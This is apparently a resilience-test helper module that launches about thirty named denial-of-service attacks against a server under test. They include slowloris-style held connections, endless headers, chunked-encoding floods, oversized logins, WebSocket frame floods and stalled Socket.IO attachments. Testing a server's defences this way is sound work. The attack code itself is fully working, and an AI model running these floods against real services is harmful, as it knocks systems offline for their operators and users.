"""Clients that mean harm, in a process of their own: ``python -m tests.http.attackers NAME HOST PORT TOKEN``.

It prints a line when the attack is under way, and one for the first connection that the server has cut off, and goes on
until it is killed.
"""

from __future__ import annotations

import asyncio
import base64
import resource
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

LOGIN = b"POST /v1/auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
GET = b"GET /v1/openapi.json HTTP/1.1\r\nHost: a\r\n\r\n"
MASK = bytes(4)
HELD_S = 0.5

Attack = Callable[["Target"], Awaitable[None]]


class Target:
    """The server, and a token of a person there."""

    def __init__(self, host: str, port: int, token: str) -> None:
        self.host = host
        self.port = port
        self.token = token
        self.kept: list[asyncio.StreamWriter] = []
        self.cut_off = asyncio.Event()

    async def open(self) -> asyncio.StreamWriter:
        """A connection whose answers nobody reads."""
        reader, writer = await asyncio.open_connection(self.host, self.port, limit=1)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        del reader
        self.kept.append(writer)
        return writer

    async def pour(self, head: bytes, body: bytes) -> None:
        """Send the head, then the body for ever, as long as the server takes it."""
        writer = await self.open()
        try:
            writer.write(head)
            while not writer.transport.is_closing():
                writer.write(body)
                await writer.drain()
                await asyncio.sleep(0)
        except OSError:
            pass
        finally:
            self.cut_off.set()
            self.kept.remove(writer)
            writer.transport.abort()

    def upgrade(self, path: bytes = b"/connection/websocket") -> bytes:
        key = base64.b64encode(bytes(16))
        return (
            b"GET " + path + b" HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + key + b"\r\n\r\n"
        )

    def connect(self) -> bytes:
        return self.upgrade() + text(b'{"id":1,"connect":{"token":"' + self.token.encode() + b'"}}')

    def upgrade_socketio(self) -> bytes:
        return self.upgrade(b"/socket.io/?EIO=4&transport=websocket")

    def connect_socketio(self) -> bytes:
        return self.upgrade_socketio() + text(b'40{"token":"' + self.token.encode() + b'"}')

    def get(self, path: str, *headers: str) -> bytes:
        lines = [f"GET {path} HTTP/1.1", "Host: a", f"Authorization: Bearer {self.token}", *headers, "", ""]
        return "\r\n".join(lines).encode()


def text(payload: bytes, first: int = 0x81) -> bytes:
    """A client's frame; its mask is zero."""
    if len(payload) < 126:
        return bytes([first, 0x80 | len(payload)]) + MASK + payload
    return bytes([first, 0xFE]) + len(payload).to_bytes(2, "big") + MASK + payload


def poured(head: bytes, body: bytes, sockets: int = 4) -> Attack:
    """Some sockets that send without end, and come back when they are cut off."""

    async def attack(target: Target) -> None:
        async def again() -> None:
            while True:
                with suppress(OSError):
                    await target.pour(head, body)
                await asyncio.sleep(0.01)

        await asyncio.gather(*(again() for _ in range(sockets)))

    return attack


def flooded(frames: bytes, begin: Callable[[Target], bytes] = Target.upgrade) -> Attack:
    """WebSockets that send these frames without end."""

    async def attack(target: Target) -> None:
        await poured(begin(target), frames * (1 + 65_536 // len(frames)))(target)

    return attack


def held(sent: Callable[[Target], bytes], sockets: int) -> Attack:
    """Many sockets that send something and then stay, and are opened again when they are closed."""

    async def attack(target: Target) -> None:
        async def stay() -> None:
            while True:
                with suppress(OSError):
                    writer = await target.open()
                    writer.write(sent(target))
                    await asyncio.sleep(HELD_S)
                    while not writer.transport.is_closing():  # noqa: ASYNC110  (a transport has no event for its end)
                        await asyncio.sleep(HELD_S)
                    target.kept.remove(writer)
                await asyncio.sleep(0.05)

        await asyncio.gather(*(stay() for _ in range(sockets)))

    return attack


def logins(body: bytes) -> Attack:
    head = LOGIN + b"Content-Length: %d\r\n\r\n" % len(body)
    return poured(head + body, head + body)


CHUNKED = LOGIN + b"Transfer-Encoding: chunked\r\n\r\n"
HANDSHAKE = b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: a\r\n\r\n"
# As objects it would take a megabyte, for as long as its attachment does not come.
WAITING = b'451-["m",[' + b"[]," * 20_000 + b'[]],{"_placeholder":true,"num":0}]'
WIDE = b'{"user":"42","password":"x","a":[' + b"{}," * 2_500_000 + b"{}]}"

ATTACKS: dict[str, Attack] = {
    "a header without end": poured(b"GET / HTTP/1.1\r\nX: ", b"x" * 65_536),
    "headers without end": poured(b"GET / HTTP/1.1\r\n", b"X: y\r\n" * 10_000),
    "an address without end": poured(b"GET /", b"x" * 65_536),
    "blank lines": poured(b"", b"\r\n" * 32_768),
    "pipelined and unread": held(lambda _: GET * 20_000, 10),
    "slow heads": held(lambda _: b"GET / HTTP/1.1\r\nX: " + b"x" * 8_000, 1_000),
    "slow bodies": held(lambda _: LOGIN + b"Content-Length: 4000\r\n\r\n{", 1_000),
    "unread answers": held(lambda _: GET, 1_000),
    "large logins": logins(WIDE),
    "tiny chunks": poured(CHUNKED, b"1\r\n \r\n" * 10_000),
    "chunk extensions": poured(CHUNKED + b"1;", b"x" * 65_536),
    "trailers": poured(CHUNKED + b"0\r\n", b"X: y\r\n" * 10_000),
    "connections": held(lambda _: b"", 3_000),
    "half-open handshakes": held(lambda target: target.upgrade()[:-2], 1_000),
    "silent WebSockets": held(lambda target: target.upgrade(), 1_000),
    "pongs": flooded(text(b"{}")),
    "pongs when connected": flooded(text(b"{}"), Target.connect),
    "pings when connected": flooded(text(b"", 0x89), Target.connect),
    "blank lines in messages": flooded(text(b"\n" * 60_000)),
    "empty messages": flooded(text(b"")),
    "empty fragments": flooded(text(b"", 0x01) + text(b"", 0x00) * 20_000),
    "unread events": held(
        lambda target: target.get("/v1/streams/user:42/events", "Accept: text/event-stream"), 30
    ),
    "unread polls": held(lambda target: target.get("/v1/streams/user:42/events?after=x:0&wait=30"), 30),
    "Socket.IO: unread handshakes": poured(HANDSHAKE, HANDSHAKE * 1_000),
    "Socket.IO: silent WebSockets": held(Target.upgrade_socketio, 1_000),
    "Socket.IO: attachments that do not come": held(
        lambda target: target.upgrade_socketio() + text(WAITING), 300
    ),
    "Socket.IO: unread refusals": flooded(text(b"40/nowhere,"), Target.upgrade_socketio),
    "Socket.IO: empty fragments": flooded(
        text(b"", 0x01) + text(b"", 0x00) * 20_000, Target.upgrade_socketio
    ),
    "Socket.IO: events when connected": flooded(
        text(b'42["m",' + b"[" * 30 + b"]" * 31), Target.connect_socketio
    ),
    "Socket.IO: unread events": held(Target.connect_socketio, 30),
}


async def main(name: str, host: str, port: int, token: str) -> None:
    """Attack until the end."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 16_384), hard))
    target = Target(host, port, token)
    attack = asyncio.ensure_future(ATTACKS[name](target))
    await asyncio.sleep(HELD_S)
    print("under way", flush=True)
    await target.cut_off.wait()
    print("cut off", flush=True)
    await attack


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]))
